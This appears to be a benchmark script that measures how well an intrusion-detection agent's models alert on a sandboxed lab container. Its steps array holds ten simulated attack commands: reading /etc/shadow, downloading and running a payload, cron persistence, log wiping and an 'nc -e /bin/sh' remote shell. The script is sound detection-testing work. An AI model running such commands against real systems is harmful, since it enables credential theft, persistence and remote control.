#!/usr/bin/env bash
# What an operator gets from the live agent: false alarms per hour and attack steps caught, per
# model, on one running container, with the agent's own alert rule.
#
#   1. the lab container (scripts/lab/build-lab-image.sh: busybox httpd polled like a camera,
#      a log line per frame, a sensor read) starts and runs for a minute;
#   2. `mamori learn --container` records it live for LEARN and trains the first model; every
#      other model is trained from that same recording (`mamori learn --from`), so the models
#      differ only in the model;
#   3. one `mamori agent` per model watches the container (each with its own probe) for WATCH of
#      normal operation, then ten intrusion steps run with `docker exec`, 20 s apart (the last a
#      remote shell: `nc -e /bin/sh` to a listener in the container that sends two commands);
#   4. each alert is credited to a step when its time falls within the step or up to 2 s after
#      it (strict: earlier or later alerts are false alarms, as are all alerts before the first
#      step).
#
# Writes results.md (a row per model, a column per step: seconds from the step's start to its
# first credited alert) and keeps the alerts, the steps and the agents' logs beside it.
#
#   bench/live-alerts.sh [--learn 10m] [--watch 30m] [--models stide,hmm-stide,hmm]   (as root)
set -euo pipefail
root="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
learn=10m
watch=30m
models=stide,hmm-stide,hmm
while [ $# -gt 0 ]; do
    case "$1" in
        --learn) learn=$2; shift 2 ;;
        --watch) watch=$2; shift 2 ;;
        --models) models=$2; shift 2 ;;
        -h|--help) sed -n 2,20p "$0"; exit 0 ;;
        *) echo "unknown argument: $1" >&2; exit 2 ;;
    esac
done
log() { echo "live-alerts: $*" >&2; }
die() { log "$*"; exit 1; }
# shellcheck source=bench/lib.sh
. "$root/bench/lib.sh"

"$root/scripts/lab/setup-live-lab.sh" >/dev/null
need_tool python3 python3
(cd "$root" && cargo build --release --quiet -p mamori)
mamori="$root/target/release/mamori"
image=$("$root/scripts/lab/build-lab-image.sh")
bench_dirs live-alerts "$root/out/bench/live-alerts-work"
name=mamori-live-alerts-$$
agents=()
cleanup() {
    for pid in "${agents[@]}"; do kill -TERM "$pid" 2>/dev/null || true; done
    docker rm -f "$name" >/dev/null 2>&1 || true
}
trap cleanup EXIT

docker run -d --name "$name" --network none "$image" >/dev/null
log "container $name ($image) started; learning after 60 s of running"
sleep 60

IFS=, read -r -a kinds <<<"$models"
first=${kinds[0]}
rm -rf "$work/models"
log "learning $first live for $learn"
"$mamori" learn --container "$name" --duration "$learn" --model "$first" --quiet \
    --models "$work/models/$first" 2>"$work/learn-$first.err"
recording="$work/models/$first/$image.events.jsonl"
for kind in "${kinds[@]:1}"; do
    log "training $kind on the same recording"
    "$mamori" learn --from "$recording" --image "$image" --model "$kind" --quiet \
        --models "$work/models/$kind" 2>"$work/learn-$kind.err"
done

for kind in "${kinds[@]}"; do
    rm -f "$work/alerts-$kind.jsonl"
    "$mamori" agent --container "$name" --models "$work/models/$kind" --listen none --quiet \
        --alerts "$work/alerts-$kind.jsonl" 2>"$work/agent-$kind.err" &
    agents+=($!)
done
for kind in "${kinds[@]}"; do
    for _ in $(seq 100); do grep -q "agent watching" "$work/agent-$kind.err" && break; sleep 0.2; done
    grep -q "agent watching" "$work/agent-$kind.err" || die "the $kind agent did not start: $(cat "$work/agent-$kind.err")"
done
watch_start=$(date +%s%N)
log "agents watching (${kinds[*]}); $watch of normal operation"
sleep "$watch"   # GNU sleep reads 30m, 1h

# The intrusion: each step one docker exec, timed from before it starts to after it ends.
# "exec:" runs the words as they are, with no shell: a program the container already runs.
steps=(
    "read-shadow|exec:cat /etc/shadow"
    "recon|id; ps; cat /proc/1/environ"
    "listening-ports|netstat -tln; cat /proc/net/tcp"
    "download|wget -q -O /tmp/.x http://127.0.0.1:8080/fw.sh"
    "run-payload|chmod +x /tmp/.x; /tmp/.x"
    "probe-admin-page|wget -q -O /dev/null http://127.0.0.1:8080/cgi-bin/admin.cgi?cmd=id"
    "persistence|mkdir -p /etc/crontabs; echo '* * * * * /tmp/.x' >> /etc/crontabs/root"
    "freeze-server|kill -STOP \$(pidof httpd); sleep 1; kill -CONT \$(pidof httpd)"
    "cover-tracks|rm -f /tmp/.x /tmp/.fw.log; truncate -s 0 /var/log/cam.log"
    "remote-shell|(sleep 1; echo 'cat /etc/passwd'; sleep 1; echo exit; sleep 1) | nc -l -p 4444 >/dev/null & sleep 0.5; nc 127.0.0.1 4444 -e /bin/sh; wait"
)
: >"$work/steps.tsv"
for step in "${steps[@]}"; do
    label=${step%%|*}
    command=${step#*|}
    start=$(date +%s%N)
    case "$command" in
        # shellcheck disable=SC2086 # the words of a command run without a shell
        exec:*) docker exec "$name" ${command#exec:} >/dev/null 2>&1 || true ;;
        *) docker exec "$name" sh -c "$command" >/dev/null 2>&1 || true ;;
    esac
    end=$(date +%s%N)
    printf '%s\t%s\t%s\t%s\n' "$start" "$end" "$label" "$command" >>"$work/steps.tsv"
    log "step $label: $(( (end - start) / 1000000 )) ms"
    sleep 20
done
for pid in "${agents[@]}"; do kill -TERM "$pid" 2>/dev/null || true; wait "$pid" || true; done
agents=()

python3 - "$work" "$watch_start" "${kinds[@]}" >"$out/results.md" <<'PY'
import json, sys
work, watch_start, kinds = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
steps = []
for line in open(f"{work}/steps.tsv"):
    start, end, label, _ = line.rstrip("\n").split("\t", 3)
    steps.append((int(start), int(end), label))
normal_s = (steps[0][0] - watch_start) / 1e9
print(f"normal operation watched: {normal_s:.0f} s, then {len(steps)} steps 20 s apart\n")
print("| model | false alarms | per hour | steps caught | alerts by source | " + " | ".join(s[2] for s in steps) + " |")
print("|---" * (5 + len(steps)) + "|")
for kind in kinds:
    alerts = []
    try:
        for line in open(f"{work}/alerts-{kind}.jsonl"):
            r = json.loads(line)
            if r.get("record") == "alert":
                alerts.append(r)
    except FileNotFoundError:
        pass
    first = {}
    false = []
    sources = {}
    for a in alerts:
        t = a["time_ns"]
        sources[a["source"]] = sources.get(a["source"], 0) + 1
        hit = [s for s in steps if s[0] <= t <= s[1] + 2 * 10**9]
        if hit:
            for s in hit:
                first.setdefault(s[2], (t - s[0]) / 1e9)
        elif t >= watch_start:
            false.append(a)
    per_hour = len(false) * 3600 / normal_s
    cells = [f"{first[s[2]]:.2f}" if s[2] in first else "missed" for s in steps]
    src = ", ".join(f"{k} {v}" for k, v in sorted(sources.items()))
    print(f"| {kind} | {len(false)} | {per_hour:.1f} | {len(first)} of {len(steps)} | {src} | " + " | ".join(cells) + " |")
    with open(f"{work}/false-{kind}.jsonl", "w") as f:
        for a in false:
            f.write(json.dumps(a) + "\n")
print()
# what the context signals said during each step, as the first model's agent wrote it
said = {}
try:
    lines = open(f"{work}/alerts-{kinds[0]}.jsonl").readlines()
except FileNotFoundError:
    lines = []
for line in lines:
    a = json.loads(line)
    if a.get("record") != "alert" or a.get("source") != "context":
        continue
    for s in steps:
        if s[0] <= a["time_ns"] <= s[1] + 2 * 10**9:
            said.setdefault(s[2], []).append(a["evidence"]["message"])
for s in steps:
    if s[2] in said:
        print(f"- {s[2]} ({kinds[0]}): " + "; ".join(f"`{m}`" for m in said[s[2]]))
print()
for kind in kinds:
    for line in open(f"{work}/false-{kind}.jsonl"):
        a = json.loads(line)
        msg = a.get("evidence", {}).get("message") or a.get("detector")
        print(f"- {kind} false alarm at {a['time']}: {a['source']} {msg}")
PY
{
    echo
    machine_lines | sed 's/^/- /'
    echo "- command: bench/live-alerts.sh --learn $learn --watch $watch --models $models"
} >>"$out/results.md"
cp "$work/steps.tsv" "$out/"
for kind in "${kinds[@]}"; do cp "$work/alerts-$kind.jsonl" "$work/agent-$kind.err" "$out/" 2>/dev/null || true; done
cat "$out/results.md"
